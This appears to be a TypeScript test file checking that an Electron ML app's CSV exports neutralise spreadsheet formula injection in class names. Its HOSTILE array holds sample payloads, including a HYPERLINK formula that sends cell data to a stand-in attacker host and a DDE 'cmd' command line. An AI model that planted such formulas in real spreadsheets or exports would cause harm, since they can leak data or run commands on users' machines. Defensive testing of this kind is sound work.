/**
 * @file CSV formula injection (issue 15, defect 9): class names such as `=HYPERLINK(...)` come from folder names
 * in shared datasets; no CSV the app writes may hand them to a spreadsheet as formulas (OWASP's rule: a cell that
 * starts with = + - @ tab or carriage return is prefixed with a single quote). Numbers stay numbers.
 */
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { CompareResult } from '../../shared/contract/methods';
import type { ClassificationReport, LearnResult } from '../../shared/contract/train';
import { unwrap } from '../../shared/result';
import { compareCsv } from '../../electron/engine/reports/compare-report';
import { writeContextFile } from '../../electron/engine/formats/context-file';
import { inProcessEngine, tempDir } from '../helpers/engine';
import { contextMeta } from './files-craft';

const tmp = tempDir('coop-sec-csv-');
const engine = inProcessEngine();
afterAll(async () => {
  await engine.cleanup();
  tmp.cleanup();
});

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+cmd|"/c calc"!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '\tTAB',
  '\rCR',
  'plain, with "quotes"',
];

/** Splits CSV text into rows of cells (RFC 4180 quoting). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i] as string;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += ch;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}
function expectNoFormula(text: string): string[][] {
  const rows = parseCsv(text);
  for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  return rows;
}

function report(names: string[]): ClassificationReport {
  return {
    accuracy: 0.5,
    count: names.length,
    perClass: names.map((name, i) => ({ name, accuracy: i % 2 ? 0.25 : null, count: 1 })),
    confusion: names.map((_, i) => names.map((_n, j) => (i === j ? 1 : 0))),
  };
}

function learnResult(names: string[]): LearnResult {
  return {
    project: null,
    model: { id: 'clip-0000000000000000', dir: '/models/x' },
    data: {
      root: '/data',
      test: null,
      classes: names.map((name) => ({ name, folder: name, prompt: name, train: 1, val: 0, test: 1 })),
      skipped: [],
    },
    settings: {
      method: 'coop',
      kgLambda: null,
      shots: 1,
      requestedShots: 1,
      seed: 1,
      nCtx: 4,
      csc: false,
      position: 'end',
      ctxInit: null,
      epochs: 1,
      augViews: 0,
      batchSize: 32,
      path: 'optimised',
      schedule: 'paper',
      optimizer: 'sgd',
      lr: 0.002,
    },
    backend: 'cpu',
    notes: [],
    zeroShot: { template: 'a photo of a {}.', test: report(names), valAccuracy: null },
    curve: [{ epoch: 0, lr: -0.5, trainLoss: 1, trainAccuracy: 0.5, valAccuracy: null, testAccuracy: 0.5, seconds: 0 }],
    test: report(names),
    predictions: [],
    valAccuracy: null,
    nearestTokens: [],
    timings: {
      loadS: 0,
      featuresS: 0,
      imagesEmbedded: 0,
      imagesFromCache: 0,
      textEncoderS: 0,
      trainS: 0,
      steps: 0,
      msPerStep: 0,
      threads: 1,
      split: 'classes',
      totalS: 0,
    },
    contextPath: '',
    curvePath: '',
    outDir: '',
  };
}

describe('CSV formula injection', () => {
  it('per-class.csv, confusion.csv and confusion-zero-shot.csv neutralise hostile class names', async () => {
    const run = join(tmp.path, 'run');
    mkdirSync(run);
    await writeContextFile(join(run, 'context.safetensors'), {
      ctx: new Float32Array(4 * 8).fill(0.5),
      shape: [4, 8],
      meta: contextMeta(HOSTILE),
    });
    writeFileSync(join(run, 'result.json'), JSON.stringify(learnResult(HOSTILE)));
    const out = join(tmp.path, 'out');
    unwrap(await engine.client.call('exportRun', { run, format: 'results', out }));
    const perClass = expectNoFormula(readFileSync(join(out, 'per-class.csv'), 'utf8'));
    // The neutralised name is still the name, behind one quote; numbers are untouched.
    expect(perClass.map((r) => r[0])).toEqual(['class', ...HOSTILE.map((h) => (/^[=+\-@\t\r]/.test(h) ? `'${h}` : h))]);
    expect(perClass[2]?.[3]).toBe('0.25');
    expectNoFormula(readFileSync(join(out, 'confusion.csv'), 'utf8'));
    expectNoFormula(readFileSync(join(out, 'confusion-zero-shot.csv'), 'utf8'));
    const curve = parseCsv(readFileSync(join(out, 'curve.csv'), 'utf8'));
    expect(curve[1]?.[1]).toBe('-0.5');
  });

  it('compare.csv neutralises what it writes', () => {
    const result: Pick<CompareResult, 'rows' | 'table' | 'data'> = {
      data: { root: '/d', test: null, classes: HOSTILE, folders: HOSTILE, prompts: HOSTILE },
      rows: [
        {
          method: 'coop',
          shots: 1,
          seed: 1,
          valAccuracy: 0.5,
          testAccuracy: 0.5,
          perClass: HOSTILE.map(() => 0.5),
          chosen: { '=1+1': 2 },
          seconds: 1,
        },
      ],
      table: [{ method: 'coop', shots: 1, mean: 0.5, std: 0, seeds: 1 }],
    };
    expectNoFormula(compareCsv(result));
  });
});
